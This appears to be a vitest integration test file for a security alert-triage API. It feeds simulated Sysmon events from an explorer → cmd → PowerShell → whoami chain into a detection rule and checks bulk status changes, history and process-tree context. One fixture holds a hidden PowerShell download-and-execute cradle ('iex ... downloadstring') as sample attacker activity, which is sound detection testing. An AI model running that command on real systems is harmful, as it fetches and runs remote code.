/**
 * Triage through the HTTP API with the shipped rule set: bulk status changes, the status/assignee
 * history, the alert page's rule and matching event, and the context (process tree and timeline)
 * built from the host's events around the alert.
 */
import { beforeEach, describe, expect, it } from "vitest";
import { userWithRole } from "../support/workers/alerts.ts";
import { agentToken, call, ingest, login } from "../support/workers/api.ts";

/** The shipped "PowerShell Started By A Batch Script" rule (rules/sigma/windows/process_creation/). */
const BATCH_POWERSHELL_RULE_ID = "753e4a37-d323-41a8-b0c4-79a0b0b31a3e";
const T = Date.parse("2026-11-23T09:00:00Z");
const SECOND = 1000;

const utc = (ts: number) => new Date(ts).toISOString().replace("T", " ").replace("Z", "");

const GUID = {
  explorer: "{0b1c0000-0000-0000-0000-00000000e001}",
  cmd: "{0b1c0000-0000-0000-0000-00000000c001}",
  powershell: "{0b1c0000-0000-0000-0000-00000000b001}",
  whoami: "{0b1c0000-0000-0000-0000-00000000a001}",
};

function sysmon(eventId: number, at: number, fields: Record<string, unknown>, host = "WS01") {
  return {
    Channel: "Microsoft-Windows-Sysmon/Operational",
    EventID: eventId,
    Computer: host,
    UtcTime: utc(at),
    ...fields,
  };
}

/** explorer → cmd running a .bat → powershell (fires the rule) → whoami, and powershell connecting out. */
function batchChain(at: number, host = "WS01") {
  const cmdLine = "cmd.exe /c C:\\Users\\bob\\update.bat";
  return [
    sysmon(
      1,
      at,
      {
        Image: "C:\\Windows\\System32\\cmd.exe",
        CommandLine: cmdLine,
        ProcessGuid: GUID.cmd,
        ProcessId: 4100,
        ParentImage: "C:\\Windows\\explorer.exe",
        ParentCommandLine: "C:\\Windows\\Explorer.EXE",
        ParentProcessGuid: GUID.explorer,
        ParentProcessId: 1200,
        User: "CORP\\bob",
      },
      host,
    ),
    sysmon(
      1,
      at + 2 * SECOND,
      {
        Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        CommandLine: "powershell.exe -nop -w hidden -c iex(new-object net.webclient).downloadstring('http://x')",
        ProcessGuid: GUID.powershell,
        ProcessId: 4200,
        ParentImage: "C:\\Windows\\System32\\cmd.exe",
        ParentCommandLine: cmdLine,
        ParentProcessGuid: GUID.cmd,
        ParentProcessId: 4100,
        User: "CORP\\bob",
      },
      host,
    ),
    sysmon(
      1,
      at + 4 * SECOND,
      {
        Image: "C:\\Windows\\System32\\whoami.exe",
        CommandLine: "whoami /all",
        ProcessGuid: GUID.whoami,
        ProcessId: 4300,
        ParentImage: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ParentProcessGuid: GUID.powershell,
        ParentProcessId: 4200,
        User: "CORP\\bob",
      },
      host,
    ),
    sysmon(
      3,
      at + 5 * SECOND,
      {
        Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ProcessGuid: GUID.powershell,
        ProcessId: 4200,
        SourceIp: "10.0.0.5",
        SourcePort: 50100,
        DestinationIp: "198.51.100.7",
        DestinationPort: 80,
        Protocol: "tcp",
      },
      host,
    ),
  ];
}

interface AlertSummary {
  id: number;
  status: string;
  assignee: string | null;
  count: number;
  host: string | null;
}

interface HistoryEntry {
  actor: string;
  field: string;
  from: string | null;
  to: string | null;
  at: string;
}

interface Detail {
  alert: AlertSummary & {
    rule: { id: string; title: string; description: string | null; references: string[] };
    matching_event: { id: number; fields: Record<string, string> } | null;
    history: HistoryEntry[];
  };
}

interface TreeNode {
  key: string;
  image: string | null;
  inferred: boolean;
  activity: number;
  children: TreeNode[];
}

interface Context {
  host: string;
  minutes: number;
  center: string;
  from: string;
  to: string;
  events: { id: number; process: string | null; matched: boolean }[];
  tree: { roots: TreeNode[]; focus: string | null; truncated: boolean };
  timeline: { label: string; count: number; points: { matched: boolean }[] }[];
}

let admin: string;
let agent: string;

beforeEach(async () => {
  admin = await login();
  agent = (await agentToken(admin, "WS01")).token;
});

async function ruleAlerts(): Promise<AlertSummary[]> {
  const res = await call<{ alerts: AlertSummary[] }>(`/api/v1/alerts?rule=${BATCH_POWERSHELL_RULE_ID}`, {
    token: admin,
  });
  return res.body.alerts;
}

/** One alert per host: the rule keys its alerts by command lines and user, the host splits them. */
async function alertsOnHosts(...hosts: string[]): Promise<number[]> {
  for (const [i, host] of hosts.entries()) {
    const res = await ingest(agent, JSON.stringify(batchChain(T + i * 60 * SECOND, host)));
    expect(res.status).toBe(200);
  }
  const alerts = await ruleAlerts();
  expect(alerts).toHaveLength(hosts.length);
  return alerts.map((a) => a.id).sort((a, b) => a - b);
}

const bulk = (json: unknown, token = admin) =>
  call<{ updated: number[]; not_found: number[] }>("/api/v1/alerts", { method: "PATCH", token, json });

describe("PATCH /alerts (bulk status)", () => {
  it("sets the status of every named alert and reports ids it does not know", async () => {
    const ids = await alertsOnHosts("WS01", "WS02", "WS03");
    const [first, second, third] = ids;
    const res = await bulk({ ids: [first, second, 999_999], status: "acknowledged" });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ updated: [first, second], not_found: [999_999] });
    const statuses = (await ruleAlerts()).map((a) => [a.id, a.status]).sort();
    expect(statuses).toEqual(
      [
        [first, "acknowledged"],
        [second, "acknowledged"],
        [third, "open"],
      ].sort(),
    );
  });

  it("records who changed each alert's status, once per real change", async () => {
    const analyst = await userWithRole(admin, "ann", "analyst");
    const [id] = await alertsOnHosts("WS01");
    await bulk({ ids: [id], status: "closed" }, analyst);
    await bulk({ ids: [id], status: "closed" }, admin);
    const detail = await call<Detail>(`/api/v1/alerts/${id}`, { token: admin });
    expect(detail.body.alert.history.map((h) => [h.actor, h.field, h.from, h.to])).toEqual([
      ["ann", "status", "open", "closed"],
    ]);
    expect(Date.parse(detail.body.alert.history[0]?.at ?? "")).not.toBeNaN();
  });

  it("lets viewers read but not change alerts in bulk", async () => {
    const viewer = await userWithRole(admin, "vic", "viewer");
    const [id] = await alertsOnHosts("WS01");
    expect((await bulk({ ids: [id], status: "closed" }, viewer)).status).toBe(403);
    expect((await ruleAlerts())[0]?.status).toBe("open");
  });

  it("answers bad bulk changes with 400 naming the problem, changing nothing", async () => {
    const [id] = await alertsOnHosts("WS01");
    const error = async (json: unknown) => {
      const res = await bulk(json);
      expect(res.status).toBe(400);
      return res.body;
    };
    expect(await error({ ids: [], status: "closed" })).toEqual({
      error: "'ids' must be an array of 1 to 500 alert ids",
    });
    expect(await error({ ids: "1", status: "closed" })).toEqual({
      error: "'ids' must be an array of 1 to 500 alert ids",
    });
    expect(await error({ ids: Array.from({ length: 501 }, (_, i) => i + 1), status: "closed" })).toEqual({
      error: "'ids' must be an array of 1 to 500 alert ids",
    });
    expect(await error({ ids: [id, -1], status: "closed" })).toEqual({
      error: "'ids' must hold positive integers only",
    });
    expect(await error({ ids: [id, 1.5], status: "closed" })).toEqual({
      error: "'ids' must hold positive integers only",
    });
    expect(await error({ ids: [id, id], status: "closed" })).toEqual({ error: "'ids' names an alert more than once" });
    expect(await error({ ids: [id], status: "done" })).toEqual({
      error: "'status' must be one of open, acknowledged, closed, false_positive",
    });
    expect(await error({ ids: [id], status: "closed", assignee: "ann" })).toEqual({
      error: "unknown field 'assignee'; expected ids, status",
    });
    expect((await ruleAlerts())[0]?.status).toBe("open");
  });
});

describe("GET /alerts/:id (the alert page)", () => {
  it("records status and assignee changes made one alert at a time in its history", async () => {
    await userWithRole(admin, "ann", "analyst");
    const [id] = await alertsOnHosts("WS01");
    const patch = (json: unknown) => call<Detail>(`/api/v1/alerts/${id}`, { method: "PATCH", token: admin, json });
    await patch({ assignee: "ann", status: "acknowledged" });
    await patch({ note: "only a note" });
    const last = await patch({ assignee: null });
    expect(last.body.alert.history.map((h) => [h.actor, h.field, h.from, h.to])).toEqual([
      ["admin", "status", "open", "acknowledged"],
      ["admin", "assignee", null, "ann"],
      ["admin", "assignee", "ann", null],
    ]);
  });

  it("shows the rule's description and the matching event's fields by their native names", async () => {
    const [id] = await alertsOnHosts("WS01");
    const { body } = await call<Detail>(`/api/v1/alerts/${id}`, { token: admin });
    expect(body.alert.rule).toMatchObject({
      id: BATCH_POWERSHELL_RULE_ID,
      title: "PowerShell Started By A Batch Script",
      references: expect.arrayContaining(["https://attack.mitre.org/techniques/T1059/001/"]),
    });
    expect(body.alert.rule.description).toContain("PowerShell launched by cmd.exe");
    expect(body.alert.matching_event?.fields).toMatchObject({
      Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      ParentProcessGuid: GUID.cmd,
      User: "CORP\\bob",
    });
  });
});

describe("GET /alerts/:id/context", () => {
  it("builds the process tree from the host's events: explorer → cmd → powershell → whoami", async () => {
    const [id] = await alertsOnHosts("WS01", "WS02");
    const res = await call<Context>(`/api/v1/alerts/${id}/context`, { token: admin });
    expect(res.status).toBe(200);
    const { tree } = res.body;
    expect(tree.roots).toHaveLength(1);
    const explorer = tree.roots[0];
    expect(explorer).toMatchObject({ image: "C:\\Windows\\explorer.exe", inferred: true });
    const cmd = explorer?.children[0];
    expect(cmd).toMatchObject({ image: "C:\\Windows\\System32\\cmd.exe", inferred: false });
    const powershell = cmd?.children[0];
    expect(powershell?.image).toMatch(/powershell\.exe$/);
    expect(powershell?.activity).toBe(1);
    expect(powershell?.children.map((c) => c.image)).toEqual(["C:\\Windows\\System32\\whoami.exe"]);
    expect(tree.focus).toBe(powershell?.key);
    expect(tree.truncated).toBe(false);
  });

  it("lists only that host's events within the window, with the alert's event marked", async () => {
    const [id] = await alertsOnHosts("WS01", "WS02");
    const far = T + 60 * 60 * SECOND;
    await ingest(agent, JSON.stringify([sysmon(1, far, { Image: "C:\\Windows\\notepad.exe", ProcessId: 1 })]));
    const res = await call<Context>(`/api/v1/alerts/${id}/context?minutes=5`, { token: admin });
    expect(res.body).toMatchObject({
      host: "WS01",
      minutes: 5,
      center: new Date(T + 2 * SECOND).toISOString(),
      from: new Date(T + 2 * SECOND - 5 * 60 * SECOND).toISOString(),
    });
    expect(res.body.events).toHaveLength(4);
    expect(res.body.events.filter((e) => e.matched).map((e) => e.process)).toEqual([
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    ]);
    const lanes = Object.fromEntries(res.body.timeline.map((lane) => [lane.label, lane.count]));
    expect(lanes).toEqual({ process_creation: 3, network_connection: 1 });
  });

  it("answers 400 for a bad window and 404 for an unknown alert", async () => {
    const [id] = await alertsOnHosts("WS01");
    expect((await call(`/api/v1/alerts/${id}/context?minutes=0`, { token: admin })).body).toEqual({
      error: "'minutes' must be a positive integer",
    });
    expect((await call(`/api/v1/alerts/${id}/context?minutes=121`, { token: admin })).body).toEqual({
      error: "'minutes' must be at most 120",
    });
    expect((await call("/api/v1/alerts/999999/context", { token: admin })).status).toBe(404);
  });
});
